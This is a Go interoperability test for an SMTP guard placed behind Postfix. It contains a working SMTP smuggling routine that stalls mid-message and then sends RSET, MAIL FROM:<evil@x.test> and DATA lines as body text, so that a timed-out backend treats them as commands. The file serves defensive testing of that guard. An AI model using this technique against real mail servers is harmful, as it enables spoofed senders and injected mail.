//go:build interop

package main

import (
	"fmt"
	"io"
	"net"
	"net/textproto"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/emersion/go-smtp"
)

const (
	patience  = 2 * time.Second       // of the server behind Postfix, within a message
	pauseTime = patience + patience/2 // of the client: go-smtp waits as long again for a command
)

// pausing sends Postfix a message that stops for a while after n bytes and goes
// on with lines that look like commands. Where Postfix's buffer ends is not known
// to it, so that lines before the pause are harmless commands. It gives Postfix's answer to the dot.
func (c *chain) pausing(n int) (string, error) {
	conn, err := textproto.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", c.SMTP))
	if err != nil {
		return "", err
	}
	defer conn.Close()
	for _, line := range []string{"", "EHLO slow.test", "MAIL FROM:<a@x.test>", "RCPT TO:<" + mailbox + ">", "DATA"} {
		if line != "" {
			if err := conn.PrintfLine("%s", line); err != nil {
				return "", err
			}
		}
		if _, _, err := conn.ReadResponse(0); err != nil {
			return "", fmt.Errorf("%s: %w", line, err)
		}
	}
	head := fmt.Sprintf("From: a@x.test\r\nSubject: pause %d\r\n\r\n", n)
	body := head + strings.Repeat("NOOP "+strings.Repeat("x", 57)+"\r\n", n/64+1)
	cut := strings.LastIndex(body[:len(head)+max(n, 2)], "\n") + 1 // between two lines
	if cut == 0 {
		cut = len(head)
	}
	if _, err := io.WriteString(conn.W, body[:cut]); err != nil {
		return "", err
	}
	if err := conn.W.Flush(); err != nil {
		return "", err
	}
	time.Sleep(pauseTime) // the attack itself
	io.WriteString(conn.W, body[cut:])
	for range 50 { // so much that Postfix passes it on before the dot
		fmt.Fprintf(conn.W, "RSET\r\nMAIL FROM:<evil@x.test>\r\nRCPT TO:<%s>\r\nDATA\r\nFrom: evil@x.test\r\n\r\n%s", second, strings.Repeat("smuggled, a line that is text\r\n", 150))
	}
	io.WriteString(conn.W, ".\r\n")
	if err := conn.W.Flush(); err != nil {
		return "", nil // Postfix hung up: nothing was taken
	}
	code, text, err := conn.ReadResponse(0)
	if err != nil && code == 0 {
		return "", nil
	}
	return fmt.Sprintf("%d %s", code, text), nil
}

// bare is go-smtp as its manual shows it, with the time that it gives a reader.
type bare struct {
	mu   sync.Mutex
	evil int // transactions of the smuggled sender
}

type bareSession struct{ b *bare }

func (s bareSession) Mail(from string, _ *smtp.MailOptions) error {
	if strings.HasPrefix(from, "evil") {
		s.b.mu.Lock()
		s.b.evil++
		s.b.mu.Unlock()
	}
	return nil
}
func (s bareSession) Rcpt(string, *smtp.RcptOptions) error { return nil }
func (s bareSession) Data(r io.Reader) error               { _, err := io.Copy(io.Discard, r); return err }
func (s bareSession) Reset()                               {}
func (s bareSession) Logout() error                        { return nil }

// TestInteropPauseWithinAMessage: a remote sender that pauses within a message
// until the server behind Postfix loses patience. A server that then goes back
// to commands obeys what Postfix still sends of the message.
func TestInteropPauseWithinAMessage(t *testing.T) {
	at := []int{0, 4 << 10, 128<<10 - 64, 128 << 10, 128<<10 + 64, 200 << 10}
	attack := func(c *chain) []string {
		replies := make([]string, len(at))
		var all sync.WaitGroup
		for i, n := range at {
			all.Go(func() {
				var err error
				if replies[i], err = c.pausing(n); err != nil {
					t.Error(err)
				}
			})
		}
		all.Wait()
		return replies
	}
	t.Run("bare go-smtp obeys the message", func(t *testing.T) {
		b := &bare{}
		newBare := func(c *chain) {
			s := smtp.NewServer(smtp.BackendFunc(func(*smtp.Conn) (smtp.Session, error) { return bareSession{b}, nil }))
			s.Domain, s.ReadTimeout = "bare.test", patience
			l, err := net.Listen("tcp", fmt.Sprintf("127.0.0.1:%d", c.Usher))
			if err != nil {
				t.Fatal(err)
			}
			go s.Serve(l)
			t.Cleanup(func() { s.Close() })
		}
		c := newChain(t, func(c *chain) { c.Shape, c.instead = "before", newBare })
		attack(c)
		b.mu.Lock()
		defer b.mu.Unlock()
		if b.evil == 0 {
			t.Error("go-smtp obeyed no line of a message: it is mended, and our guard may do less")
		}
		found(t, "slow client → Postfix → bare go-smtp", "it began %d transactions of a sender who is only text", b.evil)
	})
	t.Run("usher obeys nothing", func(t *testing.T) {
		c := newChain(t, func(c *chain) { c.Shape, c.settings = "before", []string{"--data-read", patience.String()} })
		for i, r := range attack(c) {
			if r != "" && !strings.HasPrefix(r, "4") {
				t.Errorf("a pause after %d bytes: Postfix answers %q", at[i], r)
			}
		}
		for limit := time.Now().Add(3 * time.Second); time.Now().Before(limit); pause() {
			if n := len(c.letters(second)) + len(c.letters(mailbox)); n > 0 {
				t.Fatalf("%d messages arrived of none that was whole", n)
			}
		}
		found(t, "slow client → Postfix → usher", "%d pauses around 128 KiB: nothing obeyed, nothing delivered", len(at))
		if strings.Contains(c.logs(), "evil@x.test") {
			t.Errorf("a line of a message was obeyed:\n%s", c.logs())
		}
	})
}
